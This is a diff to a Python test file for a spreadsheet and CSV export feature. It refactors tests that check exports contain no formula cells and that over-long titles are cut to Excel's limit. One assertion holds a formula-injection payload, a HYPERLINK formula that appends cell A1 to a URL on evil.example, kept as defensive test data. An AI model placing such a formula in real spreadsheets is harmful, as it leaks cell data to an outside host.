@@ -93,11 +93,17 @@ def test_nothing_of_a_title_is_markup_in_a_picture_or_a_page(table):
     assert page.count("<script>alert") == 0
 
 
+def titles_in(book):
+    """Return the titles of the events in a workbook."""
+    head, *rows = book.worksheets[0].iter_rows(values_only=True)
+    return [row[head.index("title")] for row in rows]
+
+
 def test_no_cell_of_a_workbook_is_a_formula(table):
     book = openpyxl.load_workbook(io.BytesIO(export(table, View(), "xlsx")))
     kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row if cell.value is not None}
     assert kinds <= {"s", "n"}
-    titles = [row[3].value for row in book.worksheets[0].iter_rows(min_row=2)]
+    titles = titles_in(book)
     assert '=HYPERLINK("http://evil.example/?"&A1,"click")' in titles
 
 
@@ -112,5 +118,6 @@ def test_no_cell_of_a_csv_begins_as_a_formula(table):
 def test_a_cell_longer_than_excel_allows_is_cut_and_says_so():
     table = load_events(f"start,title\n1992,{'a' * 40_000}\n".encode()).table
     book = openpyxl.load_workbook(io.BytesIO(export(table, View(), "xlsx")))
-    assert book.worksheets[0]["D2"].value[-2:] == "a…"
-    assert len(book.worksheets[0]["D2"].value) == 32_767
+    (title,) = titles_in(book)
+    assert title[-2:] == "a…"
+    assert len(title) == 32_767
